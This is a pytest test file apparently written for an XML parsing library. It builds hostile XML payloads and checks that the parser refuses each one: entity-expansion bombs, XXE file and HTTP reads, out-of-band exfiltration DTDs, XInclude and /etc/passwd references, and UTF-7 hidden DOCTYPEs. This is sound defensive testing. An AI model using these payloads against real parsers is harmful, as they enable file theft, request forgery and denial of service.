"""Hostile documents: `cxml.parse` refuses every XML attack with its own error, fast.

One test runs over the attack recipe of the security reference (§2.3): billion laughs,
quadratic blowup, XXE (file and loopback HTTP), external DTDs, parameter entities, deep
nesting, huge text, gzip, oversized bodies, processing instructions, XInclude, namespaces,
the wrong root, attribute blowup (many attributes; one huge value), namespace declarations,
schema locations and XSLT. For each payload, as bytes and (where text makes sense) as str:

1. `parse` raises `CxmlParseError` itself, never lxml's error or a ValueError;
2. the code is the expected one (12100 parse or forbidden, 12102 root, 11750 size);
3. the secret written under ``tmp_path`` never reaches an error or an issue;
4. the loopback HTTP server sees no connection;
5. `parse` and `validate` each finish well under half a second.

Positive controls keep those assertions honest: a permissive lxml parser does leak the secret,
the loopback counter does count, the gzip payload is a valid document once decompressed,
the size and depth payloads parse once their limit is raised, and lxml reads the attribute
blowups that ``MAX_ATTRIBUTES`` refuses.
"""

from __future__ import annotations

import contextlib
import gzip
import os
import secrets
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Literal

import pytest
from lxml import etree

import cxml
from cxml import CxmlError, CxmlParseError
from tests.loopback import serving

#: Written to a file only; it must never come back out of the library.
SECRET = f"CXMLFLOW-SECRET-{secrets.token_hex(8)}"
#: The single timing bound the security reference allows; generous on purpose. It bounds the
#: CPU the parse costs this process (`time.process_time`), not wall time, so that another job
#: on a shared machine cannot fail it (a parse takes about 0.08 s of the 0.5).
TIME_LIMIT = 0.5

VALID = b'<?xml version="1.0" encoding="UTF-8"?>\n<Response><Say>hello</Say></Response>'
_SAY_EE = "<Response><Say>&ee;</Say></Response>"
KNOWN_CHAIN = (
    "Response",
    'Gather actionOnEmptyResult="true"',
    "Converse",
    'Tool name="lookup" url="https://tools.example.com/lookup"',
    'Parameter name="a" value="b"',
)

Form = Literal["bytes", "str"]


# -- the loopback server ------------------------------------------------------------------


@dataclass
class Loopback:
    """A local HTTP server's address and how many connections it has accepted."""

    url: str = ""
    _hits: int = 0
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def record(self) -> None:
        with self._lock:
            self._hits += 1

    @property
    def hits(self) -> int:
        with self._lock:
            return self._hits


def _handler(loopback: Loopback) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def setup(self) -> None:
            loopback.record()  # every accepted connection, before any request is read
            super().setup()

        def do_GET(self) -> None:
            body = f'<!ENTITY served "served-by-loopback">{SECRET}'.encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/xml-dtd")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    return Handler


@pytest.fixture
def loopback() -> Iterator[Loopback]:
    state = Loopback()
    server = ThreadingHTTPServer(("127.0.0.1", 0), _handler(state))
    server.daemon_threads = True
    state.url = f"http://127.0.0.1:{server.server_address[1]}"
    with serving(server):
        yield state


# -- payload builders ---------------------------------------------------------------------


@dataclass(frozen=True)
class Env:
    """What builders may point at: a directory, the secret's file, the loopback server."""

    tmp: Path
    secret_file: Path
    url: str


@pytest.fixture
def env(tmp_path: Path, loopback: Loopback) -> Env:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET, encoding="ascii")
    return Env(tmp_path, secret_file, loopback.url)


def _doc(doctype: str, body: str = "<Response><Say>hi</Say></Response>") -> str:
    return f'<?xml version="1.0"?>\n{doctype}\n{body}'


def _nested(tags: Sequence[str]) -> str:
    """Each tag inside the one before it; a tag may carry attributes."""
    opening = "".join(f"<{tag}>" for tag in tags)
    return opening + "".join(f"</{tag.split()[0]}>" for tag in reversed(tags))


def billion_laughs(_: Env) -> str:
    entities = ['<!ENTITY lol0 "lol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 11)]
    body = "<Response><Say>&lol10;</Say></Response>"
    return _doc("<!DOCTYPE Response [\n" + "\n".join(entities) + "\n]>", body)


def quadratic_blowup(_: Env) -> str:
    entity = f'<!DOCTYPE Response [<!ENTITY big "{"x" * 50_000}">]>'
    return _doc(entity, "<Response><Say>" + "&big;" * 20_000 + "</Say></Response>")


def xxe_file(env: Env) -> str:
    uri = env.secret_file.as_uri()
    return _doc(f'<!DOCTYPE Response [<!ENTITY ee SYSTEM "{uri}">]>', _SAY_EE)


def xxe_file_in_attribute(env: Env) -> str:
    uri = env.secret_file.as_uri()
    body = '<Response><Say voice="&ee;">hi</Say></Response>'
    return _doc(f'<!DOCTYPE Response [<!ENTITY ee SYSTEM "{uri}">]>', body)


def xxe_http(env: Env) -> str:
    return _doc(f'<!DOCTYPE Response [<!ENTITY ee SYSTEM "{env.url}/xxe">]>', _SAY_EE)


def external_dtd_http(env: Env) -> str:
    return _doc(f'<!DOCTYPE Response SYSTEM "{env.url}/x.dtd">')


def external_dtd_file(env: Env) -> str:
    return _doc(f'<!DOCTYPE Response SYSTEM "{env.secret_file.as_uri()}">')


def parameter_entity_http(env: Env) -> str:
    return _doc(f'<!DOCTYPE Response [<!ENTITY % p SYSTEM "{env.url}/p.dtd"> %p;]>')


def parameter_entity_file(env: Env) -> str:
    uri = env.secret_file.as_uri()
    return _doc(f'<!DOCTYPE Response [<!ENTITY % p SYSTEM "{uri}"> %p;]>')


def _evil_dtd(env: Env, name: str, sink: str) -> str:
    """An external DTD that reads the secret into ``%file;`` and uses it in ``sink``."""
    dtd = env.tmp / name
    dtd.write_text(
        f'<!ENTITY % file SYSTEM "{env.secret_file.as_uri()}">\n'
        f"<!ENTITY % eval \"<!ENTITY &#x25; out SYSTEM '{sink}'>\">\n"
        "%eval;\n%out;\n",
        encoding="utf-8",
    )
    return _doc(f'<!DOCTYPE Response [<!ENTITY % p SYSTEM "{dtd.as_uri()}"> %p;]>')


def out_of_band_exfiltration(env: Env) -> str:
    return _evil_dtd(env, "oob.dtd", f"{env.url}/?leak=%file;")


def error_based_exfiltration(env: Env) -> str:
    return _evil_dtd(env, "error.dtd", "file:///nonexistent/%file;")


def nesting_5000(_: Env) -> str:
    # Short tags keep it under the 64 kB cap, so libxml2's depth limit is what answers.
    return _nested(["Response", *["x"] * 4_999])


def nesting_41(_: Env) -> str:
    # Deeper than our MAX_DEPTH (32), far below libxml2's 256.
    return _nested(["Response", *["x"] * 40])


def oversized_text(_: Env) -> str:
    return "<Response><Say>" + "a" * (10 * 1024 * 1024 + 1) + "</Say></Response>"


def gzip_bytes(_: Env) -> bytes:
    return gzip.compress(VALID, mtime=0)


def oversized_body(_: Env) -> str:
    return "<Response><Say>" + "a" * (64 * 1024 + 1) + "</Say></Response>"


def stylesheet_pi(_: Env) -> str:
    return _doc('<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>')


def pi_inside_response(_: Env) -> str:
    return "<Response>\n<?php system('id'); ?>\n<Say>hi</Say>\n</Response>"


def xinclude(env: Env) -> str:
    href = env.secret_file.as_uri()
    return (
        '<Response><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
        f' href="{href}" parse="text"/></Response>'
    )


def xinclude_declared_on_root(env: Env) -> str:
    href = env.secret_file.as_uri()
    return (
        '<Response xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<Say><xi:include href="{href}" parse="text"/></Say></Response>'
    )


def _attributes(count: int, prefix: str = "a") -> str:
    """``count`` empty attributes with distinct names (``prefix`` and a hex number)."""
    return " ".join(f'{prefix}{i:x}=""' for i in range(count))


def _most_attributes_under_the_cap(template: str, prefix: str = "a") -> str:
    """``template`` (with ``{}`` where the attributes go) holding as many as fit in MAX_BYTES."""
    low, high = 1, cxml.MAX_BYTES
    while high - low > 1:  # the largest count whose document is within the size cap
        middle = (low + high) // 2
        fits = len(template.format(_attributes(middle, prefix)).encode()) <= cxml.MAX_BYTES
        low, high = (middle, high) if fits else (low, middle)
    return template.format(_attributes(low, prefix))


def attribute_blowup(_: Env) -> str:
    # About 7,800 attributes: within the size cap, so only the attribute cap answers.
    return _most_attributes_under_the_cap("<Response><Say {}>hi</Say></Response>")


def attribute_blowup_unknown_element(_: Env) -> str:
    return _most_attributes_under_the_cap("<Response><Blowup {}/></Response>")


def attribute_blowup_on_root(_: Env) -> str:
    return _most_attributes_under_the_cap("<Response {}><Hangup/></Response>")


def attribute_blowup_crafted_names(_: Env) -> str:
    # Names sharing a long prefix, as hash-collision attacks craft them: the count is capped
    # whatever the names are.
    return _most_attributes_under_the_cap("<Response><Say {}>hi</Say></Response>", "collide" * 6)


def attribute_blowup_uncapped(_: Env) -> str:
    # 50,000 attributes (about 450 kB): read value by value, minutes of work.
    return f"<Response><Say {_attributes(50_000)}>hi</Say></Response>"


def huge_attribute_value(_: Env) -> str:
    return '<Response><Say voice="' + "a" * (10 * 1024 * 1024 + 1) + '">hi</Say></Response>'


def namespace_declaration_blowup(_: Env) -> str:
    declarations = " ".join(f'xmlns:n{i:x}="urn:n"' for i in range(3_000))
    return f"<Response><Say {declarations}>hi</Say></Response>"


def schema_location(env: Env) -> str:
    return (
        '<Response xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:noNamespaceSchemaLocation="{env.url}/cxml.xsd"><Say>hi</Say></Response>'
    )


def schema_location_file(env: Env) -> str:
    return (
        '<Response xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="urn:cxml {env.secret_file.as_uri()}"><Say>hi</Say></Response>'
    )


def xslt_stylesheet(env: Env) -> str:
    return (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:template match="/"><xsl:copy-of select="document(\'{env.url}/x\')"/>'
        "</xsl:template></xsl:stylesheet>"
    )


def namespaced_root(_: Env) -> str:
    return '<Response xmlns="urn:x"><Say>hi</Say></Response>'


def wrong_root(_: Env) -> str:
    return "<Dial/>"


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable[[Env], str | bytes]
    code: int
    max_bytes: int | None = cxml.MAX_BYTES


ATTACKS = (
    Attack("billion-laughs", billion_laughs, 12100),
    Attack("quadratic-blowup", quadratic_blowup, 12100, max_bytes=None),
    Attack("quadratic-blowup-capped", quadratic_blowup, 11750),
    Attack("xxe-file", xxe_file, 12100),
    Attack("xxe-file-attribute", xxe_file_in_attribute, 12100),
    Attack("xxe-http", xxe_http, 12100),
    Attack("external-dtd-http", external_dtd_http, 12100),
    Attack("external-dtd-file", external_dtd_file, 12100),
    Attack("parameter-entity-http", parameter_entity_http, 12100),
    Attack("parameter-entity-file", parameter_entity_file, 12100),
    Attack("oob-exfiltration", out_of_band_exfiltration, 12100),
    Attack("error-based-exfiltration", error_based_exfiltration, 12100),
    Attack("nesting-5000", nesting_5000, 12100),
    Attack("nesting-41", nesting_41, 12100),
    Attack("oversized-text", oversized_text, 12100, max_bytes=None),
    Attack("gzip", gzip_bytes, 12100),
    Attack("oversized-body", oversized_body, 11750),
    Attack("stylesheet-pi", stylesheet_pi, 12100),
    Attack("pi-inside-response", pi_inside_response, 12100),
    Attack("xinclude", xinclude, 12100),
    Attack("xinclude-declared-on-root", xinclude_declared_on_root, 12100),
    Attack("attribute-blowup", attribute_blowup, 12100),
    Attack("attribute-blowup-unknown-element", attribute_blowup_unknown_element, 12100),
    Attack("attribute-blowup-on-root", attribute_blowup_on_root, 12100),
    Attack("attribute-blowup-crafted-names", attribute_blowup_crafted_names, 12100),
    Attack("attribute-blowup-uncapped", attribute_blowup_uncapped, 12100, max_bytes=None),
    Attack("huge-attribute-value", huge_attribute_value, 12100, max_bytes=None),
    Attack("huge-attribute-value-capped", huge_attribute_value, 11750),
    Attack("namespace-declaration-blowup", namespace_declaration_blowup, 12100),
    Attack("schema-location-http", schema_location, 12100),
    Attack("schema-location-file", schema_location_file, 12100),
    Attack("xslt-stylesheet", xslt_stylesheet, 12100),
    Attack("namespaced-root", namespaced_root, 12100),
    Attack("wrong-root", wrong_root, 12102),
)
# Builders that return bytes (gzip) have no meaningful str form.
_TEXT_ONLY = frozenset({"gzip"})
CASES = [
    pytest.param(attack, form, id=f"{attack.name}-{form}")
    for attack in ATTACKS
    for form in ("bytes", "str")
    if form == "bytes" or attack.name not in _TEXT_ONLY
]


def _as(form: Form, payload: str | bytes) -> str | bytes:
    if form == "bytes":
        return payload.encode("utf-8") if isinstance(payload, str) else payload
    assert isinstance(payload, str)
    return payload


def _timed_parse_error(payload: str | bytes, **limits: Any) -> tuple[CxmlParseError, float]:
    start = time.process_time()
    with pytest.raises(CxmlParseError) as caught:
        cxml.parse(payload, **limits)
    return caught.value, time.process_time() - start


# -- the attacks --------------------------------------------------------------------------


@pytest.mark.parametrize(("attack", "form"), CASES)
def test_attack_is_refused(attack: Attack, form: Form, env: Env, loopback: Loopback) -> None:
    payload = _as(form, attack.build(env))

    err, elapsed = _timed_parse_error(payload, max_bytes=attack.max_bytes)
    assert type(err) is CxmlParseError
    assert isinstance(err, CxmlError)
    assert not isinstance(err, etree.LxmlError | ValueError)
    assert err.__cause__ is None
    assert err.code == attack.code, str(err)
    if attack.code == 11750:
        assert err.line is None  # refused before parsing: there is no position
    else:
        assert err.line is not None
        assert err.line >= 1
    assert err.column is None or err.column >= 1
    assert elapsed < TIME_LIMIT

    start = time.process_time()
    issues = cxml.validate(payload, max_bytes=attack.max_bytes)
    assert time.process_time() - start < TIME_LIMIT
    assert [(issue.code, issue.severity, issue.line) for issue in issues] == [
        (attack.code, "error", err.line)
    ]

    shown = [str(err), repr(err), err.message]
    shown += [text for issue in issues for text in (str(issue), issue.message, issue.path)]
    assert not [text for text in shown if SECRET in text]
    assert loopback.hits == 0


# -- positive controls --------------------------------------------------------------------


def test_permissive_lxml_leaks_the_secret(env: Env) -> None:
    # The XXE payload is a real attack: lxml told to resolve entities reads the file.
    parser = etree.XMLParser(resolve_entities=True)
    root = etree.fromstring(xxe_file(env).encode(), parser)
    assert SECRET in etree.tostring(root, encoding="unicode")


def test_loopback_counter_counts(loopback: Loopback) -> None:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # no env proxies
    with opener.open(f"{loopback.url}/probe", timeout=5) as response:
        assert response.status == 200
        assert SECRET.encode() in response.read()
    assert loopback.hits == 1


def test_gzip_payload_is_a_valid_document(env: Env) -> None:
    payload = gzip_bytes(env)
    assert payload[:2] == b"\x1f\x8b"
    doc = cxml.parse(gzip.decompress(payload))
    assert doc == cxml.parse(VALID)
    assert cxml.validate(gzip.decompress(payload)) == []


def test_known_nesting_parses() -> None:
    text = _nested(KNOWN_CHAIN)
    assert text.startswith('<Response><Gather actionOnEmptyResult="true"><Converse><Tool ')
    doc = cxml.parse(text)
    assert isinstance(doc.children[0], cxml.Gather)
    assert cxml.validate(text) == []


def test_depth_limit_is_ours_and_exact(env: Env) -> None:
    # 41 levels parse once the limit is raised, so MAX_DEPTH (not libxml2) refused them.
    cxml.parse(nesting_41(env), max_depth=64)
    assert cxml.MAX_DEPTH == 32
    cxml.parse(_nested(["Response", *["x"] * 31]))
    err, _ = _timed_parse_error(_nested(["Response", *["x"] * 32]))
    assert err.code == 12100


def test_size_limit_is_the_only_objection(env: Env) -> None:
    body = oversized_body(env)
    assert len(body.encode()) > cxml.MAX_BYTES
    cxml.parse(body, max_bytes=None)
    err, _ = _timed_parse_error(body.encode(), max_bytes=len(body) - 1)
    assert err.code == 11750
    cxml.parse(body, max_bytes=len(body))


def test_attribute_blowup_payloads_are_well_formed_and_fill_the_size_cap(env: Env) -> None:
    """lxml itself reads every blowup payload (so the refusal is ours, not libxml2's), and the
    capped ones are within MAX_BYTES (so the attribute cap answers, not the size cap)."""
    for build, count in (
        (attribute_blowup, None),
        (attribute_blowup_unknown_element, None),
        (attribute_blowup_on_root, None),
        (attribute_blowup_crafted_names, None),
        (attribute_blowup_uncapped, 50_000),
    ):
        payload = build(env).encode()
        root = etree.fromstring(payload)
        element = max(root.iter(), key=lambda e: len(e.attrib))
        if count is None:
            assert len(payload) <= cxml.MAX_BYTES
            assert len(payload) > cxml.MAX_BYTES - 64  # as many as fit
            assert len(element.attrib) > 1_000  # 7,800 short names; 1,300 long ones
        else:
            assert len(element.attrib) == count


@pytest.mark.parametrize(
    "template",
    [
        "<Response><Say {}>hi</Say></Response>",
        "<Response><Blowup {}/></Response>",
        "<Response {}><Hangup/></Response>",
        "<Response><Gather><Say {}>hi</Say></Gather></Response>",
        "<Response><Say>hi <emphasis {}>there</emphasis></Say></Response>",
    ],
    ids=["verb", "unknown-element", "root", "nested-verb", "inside-text"],
)
def test_attribute_limit_is_exact(template: str) -> None:
    assert cxml.MAX_ATTRIBUTES == 64
    at_limit = template.format(_attributes(cxml.MAX_ATTRIBUTES))
    cxml.parse(at_limit)
    assert [i for i in cxml.validate(at_limit) if i.code == 12100] == []  # read, not refused
    over = "\n" + template.format(_attributes(cxml.MAX_ATTRIBUTES + 1))
    err, _ = _timed_parse_error(over)
    assert (err.code, err.line) == (12100, 2)
    assert f"65 attributes, over the limit of {cxml.MAX_ATTRIBUTES}" in err.message


# -- encodings: the byte scan that spares the tree checks must not be fooled ---------------

# `parse` skips its DOCTYPE and namespace checks when the bytes show no ``<!`` and no
# ``xmlns``, which only holds in an encoding that writes ASCII as ASCII. In every other one,
# these constructs are spelled in other bytes, and the tree must be checked.
_DOCTYPE_BODY = (
    '<!DOCTYPE Response [<!ENTITY e "x">]>\n<Response><Say voice="&e;">hi &e;</Say></Response>'
)
_PLAIN_BODY = '<Response><Say voice="v">hi</Say></Response>'
_NAMESPACED_BODY = '<Response><Say xmlns:x="urn:x">hi</Say></Response>'


def _encoded(body: str, codec: str, declared: str | None) -> bytes:
    declaration = (
        f'<?xml version="1.0" encoding="{declared}"?>' if declared else "<?xml version='1.0'?>"
    )
    return f"{declaration}\n{body}".encode(codec)


ENCODINGS = [
    pytest.param("utf-16", None, id="utf-16-bom"),
    pytest.param("utf-16-le", "UTF-16LE", id="utf-16le-declared"),
    pytest.param("utf-32", None, id="utf-32-bom"),
    pytest.param("utf-8-sig", None, id="utf-8-bom"),
    pytest.param("latin-1", "ISO-8859-1", id="latin-1-declared"),
    pytest.param("cp1252", "windows-1252", id="windows-1252-declared"),
    pytest.param("utf-8", "utf-8", id="utf-8-declared"),
    pytest.param("ascii", None, id="no-encoding-declared"),
]


@pytest.mark.parametrize(("codec", "declared"), ENCODINGS)
def test_doctype_and_namespaces_are_refused_in_any_encoding(
    codec: str, declared: str | None
) -> None:
    # Positive control: the encoding is read, and a document without them parses.
    assert cxml.parse(_encoded(_PLAIN_BODY, codec, declared)) == cxml.Response(
        [cxml.Say("hi", voice="v")]
    )
    err, _ = _timed_parse_error(_encoded(_DOCTYPE_BODY, codec, declared))
    assert "DOCTYPE is not allowed" in err.message
    err, _ = _timed_parse_error(_encoded(_NAMESPACED_BODY, codec, declared))
    assert "namespaces are not allowed" in err.message


@pytest.mark.parametrize("declared", ["UTF-7", "utf-7", "Utf-7"])
def test_a_doctype_spelled_in_utf7_is_refused(declared: str) -> None:
    # In UTF-7 "!" may be written "+ACE-", so "<!DOCTYPE" need not contain the bytes "<!".
    head = f'<?xml version="1.0" encoding="{declared}"?>\n'.encode("ascii")
    hidden = (
        b'<+ACE-DOCTYPE Response [<+ACE-ENTITY e "x">]>\n<Response><Say>hi &e;</Say></Response>'
    )
    assert b"<!" not in hidden
    plain = b"<Response><Say>hi +ACE-</Say></Response>"  # control: lxml reads UTF-7 here
    assert cxml.parse(head + plain) == cxml.Response([cxml.Say("hi !")])
    err, _ = _timed_parse_error(head + hidden)
    assert "DOCTYPE is not allowed" in err.message


# -- positions and leading junk -----------------------------------------------------------


def test_mismatched_tag_reports_its_line() -> None:
    text = '<?xml version="1.0"?>\n<Response>\n  <Say>hi</Play>\n</Response>\n'
    for payload in (text, text.encode()):
        err, _ = _timed_parse_error(payload)
        assert (err.code, err.line) == (12100, 3)
        assert err.column is not None
        assert err.column >= 1
        assert [(issue.code, issue.line) for issue in cxml.validate(payload)] == [(12100, 3)]


def test_unquoted_attribute_reports_its_line() -> None:
    err, _ = _timed_parse_error(b"<Response>\n<Say>hi</Say>\n\n<Play loop=2>x</Play></Response>")
    assert (err.code, err.line) == (12100, 4)
    assert err.column is not None


def test_forbidden_node_reports_its_line() -> None:
    err, _ = _timed_parse_error("<Response>\n<Say>hi</Say>\n<?pi here?>\n</Response>")
    assert (err.code, err.line) == (12100, 3)


@pytest.mark.parametrize("lead", [" ", "\n", "\t\r\n"])
def test_whitespace_before_xml_declaration(lead: str) -> None:
    text = lead + VALID.decode()
    for payload in (text, text.encode()):
        err, _ = _timed_parse_error(payload)
        assert err.code == 12100
        assert err.line is not None
    cxml.parse(VALID)  # the same document without the lead is fine


# -- external resources are never opened ---------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_external_subset_on_a_fifo_does_not_block(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    payload = _doc(f'<!DOCTYPE Response SYSTEM "{fifo.as_uri()}">')
    outcome: list[BaseException | None] = []

    def run() -> None:
        try:
            cxml.parse(payload)
        except BaseException as exc:
            outcome.append(exc)
        else:
            outcome.append(None)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(TIME_LIMIT)
    blocked = worker.is_alive()
    for _ in range(50):  # bounded: give a blocked open() its writer, then EOF
        if not worker.is_alive():
            break
        with contextlib.suppress(OSError):
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(0.1)
    assert not worker.is_alive(), "parse() still blocked on the FIFO"
    assert not blocked, "parse() opened a local FIFO named by the document"
    assert len(outcome) == 1
    assert isinstance(outcome[0], CxmlParseError)
